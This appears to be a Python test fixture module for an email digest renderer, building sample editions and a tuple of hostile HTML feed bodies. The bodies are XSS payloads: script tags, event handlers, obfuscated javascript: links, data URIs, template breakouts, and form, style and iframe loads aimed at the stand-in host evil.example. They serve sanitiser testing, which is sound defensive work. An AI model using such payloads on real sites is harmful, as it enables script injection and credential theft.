"""Selections for the render tests: a realistic edition, one item, 200 items.

The builders live in :mod:`fakes.samples` (the render benchmark uses them too); this
module adds hostile content and re-exports them.
"""

from __future__ import annotations

from dataclasses import replace

from digest.content import Selection, TopicSection
from fakes.samples import (  # noqa: F401 (re-exported)
    EDITION_DATE,
    HOLDING,
    SPONSOR,
    large_edition,
    make_briefing,
    make_related,
    make_video,
    sample_config,
    sample_edition,
    single_item_edition,
)

#: What a hostile feed sends; ingestion sanitises it, the renderer sanitises it again.
HOSTILE_BODIES = (
    '<p>Hello<script>alert(1)</script></p>',
    '<p><img src="https://x.example/a.png" onerror="alert(1)">pic</p>',
    '<p><a href="javascript:alert(1)">click</a> <a href="JaVaScRiPt:alert(2)">again</a></p>',
    '<p><a href="&#106;avascript:alert(3)">entity</a> <a href=" javascript:alert(4)">space</a></p>',
    '<iframe src="https://evil.example/"></iframe><p>after iframe</p>',
    '<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>',
    '<p style="background:url(https://evil.example/track.png)">styled</p>',
    '<style>@import url(https://evil.example/x.css); p { color: red }</style><p>css</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css"><p>link</p>',
    '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a></p>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="tracker">',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
    '<svg onload="alert(1)"><circle r="4"/></svg><math><mi>x</mi></math>',
    '<p onclick="alert(1)" onmouseover="alert(2)">handlers</p>',
    '<div><meta http-equiv="refresh" content="0;url=https://evil.example/"></div>',
    '</mj-text></mj-column></mj-section><mj-raw><script>alert(1)</script></mj-raw><mj-text>',
    '<base href="https://evil.example/"><p>base</p>',
    '<!--[if mso]><script>alert(1)</script><![endif]--><p>mso</p>',
    '<p><img src="https://x.example/wide.png" width="1600" height="900" alt="wide chart"></p>',
)


def hostile_edition(bodies: tuple[str, ...] = HOSTILE_BODIES) -> Selection:
    """One briefing per hostile body, with hostile text in titles and disclosures too."""
    items = tuple(
        replace(
            make_briefing(i, 0),
            body_html=body,
            title=f'<script>alert("title {i}")</script> & "quotes"',
            author='<img src=x onerror=alert(1)>',
            attribution="Found via <a href='javascript:alert(1)'>a release</a>",
        )
        for i, body in enumerate(bodies)
    )
    return Selection(
        edition_date=EDITION_DATE,
        topics=("lithium",),
        sections=(TopicSection("lithium", "Lithium", items),),
        videos=(replace(make_video(0), title='"><script>alert(1)</script>', url="javascript:alert(1)"),),
    )


def contents_edition() -> Selection:
    """13 briefings across 4 topics (4, 3, 3, 3), videos, related: a long digest that
    opens with its "In this issue" list."""
    counts = (("lithium", "Lithium", 0, 4), ("gold", "Gold", 1, 3), ("copper", "Copper", 2, 3),
              ("ev-supply-chain", "EV Supply Chain", 3, 3))
    sections, n = [], 0
    for slug, title, company, count in counts:
        items = []
        for _ in range(count):
            item = make_briefing(n, company, sponsor=SPONSOR if n == 11 else None)
            items.append(replace(item, title=f"{item.title}, part {n + 1}"))  # 13 distinct headlines
            n += 1
        sections.append(TopicSection(slug, title, tuple(items)))
    return Selection(
        edition_date=EDITION_DATE, topics=("copper", "ev-supply-chain", "gold", "lithium"),
        sections=tuple(sections), videos=tuple(make_video(i) for i in range(2)),
        related=tuple(make_related(i) for i in range(3)),
    )
